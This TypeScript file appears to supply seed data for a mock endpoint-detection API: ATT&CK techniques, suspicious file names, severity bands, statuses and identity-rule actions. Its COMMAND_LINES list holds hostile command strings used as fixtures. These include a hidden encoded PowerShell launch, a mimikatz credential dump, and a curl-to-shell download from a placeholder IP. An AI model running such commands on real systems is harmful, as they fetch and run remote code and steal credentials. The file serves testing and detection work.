/** Realistic value lists the seed draws from (ATT&CK names, file names, people, places). */

export interface Technique {
  tactic: string;
  tacticId: string;
  technique: string;
  techniqueId: string;
  objective: string;
  scenario: string;
  displayName: string;
  description: string;
}

export const TECHNIQUES: readonly Technique[] = [
  {
    tactic: 'Execution',
    tacticId: 'TA0002',
    technique: 'PowerShell',
    techniqueId: 'T1059.001',
    objective: 'Follow Through',
    scenario: 'suspicious_activity',
    displayName: 'SuspiciousPowerShell',
    description: 'SuspiciousPowerShell behaviour detected by the sensor.',
  },
  {
    tactic: 'Persistence',
    tacticId: 'TA0003',
    technique: 'Registry Run Keys / Startup Folder',
    techniqueId: 'T1547.001',
    objective: 'Keep Access',
    scenario: 'establish_persistence',
    displayName: 'RunKeyPersistence',
    description: 'RunKeyPersistence behaviour detected by the sensor.',
  },
  {
    tactic: 'Credential Access',
    tacticId: 'TA0006',
    technique: 'OS Credential Dumping',
    techniqueId: 'T1003',
    objective: 'Gain Access',
    scenario: 'credential_theft',
    displayName: 'CredentialDumping',
    description: 'CredentialDumping behaviour detected by the sensor.',
  },
  {
    tactic: 'Machine Learning',
    tacticId: 'CSTA0004',
    technique: 'Sensor-based ML',
    techniqueId: 'CST0007',
    objective: 'Falcon Detection Method',
    scenario: 'NGAV',
    displayName: 'MLDetectionHigh',
    description: 'MLDetectionHigh behaviour detected by the sensor.',
  },
  {
    tactic: 'Malware',
    tacticId: 'CSTA0001',
    technique: 'Known Malware',
    techniqueId: 'CST0001',
    objective: 'Falcon Detection Method',
    scenario: 'known_malware',
    displayName: 'KnownMalware',
    description: 'KnownMalware behaviour detected by the sensor.',
  },
  {
    tactic: 'Defense Evasion',
    tacticId: 'TA0005',
    technique: 'Masquerading',
    techniqueId: 'T1036',
    objective: 'Keep Access',
    scenario: 'defense_evasion',
    displayName: 'MasqueradedBinary',
    description: 'MasqueradedBinary behaviour detected by the sensor.',
  },
  {
    tactic: 'Lateral Movement',
    tacticId: 'TA0008',
    technique: 'Remote Services',
    techniqueId: 'T1021',
    objective: 'Explore',
    scenario: 'lateral_movement',
    displayName: 'RemoteServiceLateralMovement',
    description: 'RemoteServiceLateralMovement behaviour detected by the sensor.',
  },
  {
    tactic: 'Command and Control',
    tacticId: 'TA0011',
    technique: 'Application Layer Protocol',
    techniqueId: 'T1071',
    objective: 'Contact Controlled Systems',
    scenario: 'c2_communication',
    displayName: 'SuspiciousBeaconing',
    description: 'SuspiciousBeaconing behaviour detected by the sensor.',
  },
];

export const FILE_NAMES: readonly string[] = [
  'powershell.exe',
  'rundll32.exe',
  'invoice_2026.exe',
  'svch0st.exe',
  'mimikatz.exe',
  'update.js',
  'payload.dll',
  'setup_patch.msi',
  'runme.ps1',
  'agent.sh',
  'kworkerd',
  'Installer.app',
];

export const COMMAND_LINES: readonly string[] = [
  'powershell.exe -nop -w hidden -enc SQBFAFgA',
  'rundll32.exe payload.dll,DllRegisterServer',
  'cmd.exe /c whoami /all',
  'C:\\Users\\Public\\svch0st.exe -k netsvcs',
  'mimikatz.exe "sekurlsa::logonpasswords" exit',
  'wscript.exe update.js',
  'msiexec /q /i setup_patch.msi',
  '/bin/sh -c curl -s http://203.0.113.7/agent.sh | sh',
];

export const FIRST_NAMES: readonly string[] = [
  'alice',
  'bob',
  'carol',
  'dave',
  'erin',
  'frank',
  'grace',
  'heidi',
];
export const ANALYSTS: readonly string[] = ['Ana Analyst', 'Sam Responder', 'Lee Hunter', 'Kim Triage'];
export const SITES: readonly string[] = ['HQ', 'Branch-East', 'Branch-West', 'DataCenter-1', 'Remote'];
export const DOMAINS: readonly string[] = ['corp.example.com', 'lab.example.com', 'example.org'];

export const SEVERITY_BANDS: readonly { score: number; name: string }[] = [
  { score: 10, name: 'Informational' },
  { score: 30, name: 'Low' },
  { score: 50, name: 'Medium' },
  { score: 70, name: 'High' },
  { score: 90, name: 'Critical' },
];

export const DETECTION_STATUSES: readonly string[] = [
  'new',
  'in_progress',
  'true_positive',
  'false_positive',
  'ignored',
  'closed',
  'reopened',
];

// The indicator vocabularies are API facts: one list, in the operations table.
export {
  IOC_ACTIONS,
  IOC_PLATFORMS,
  IOC_SEVERITIES,
  IOC_TYPES,
} from '../../falcon/operations/ioc.ts';

export const IDP_RULE_ACTIONS: readonly string[] = [
  'ADD_TO_WATCH_LIST',
  'ALLOW',
  'APPLY_SSO_POLICY',
  'BLOCK',
  'FORCE_PASSWORD_CHANGE',
  'MFA',
];
export const IDP_RULE_TRIGGERS: readonly string[] = ['access', 'accountEvent', 'alert', 'federatedAccess'];
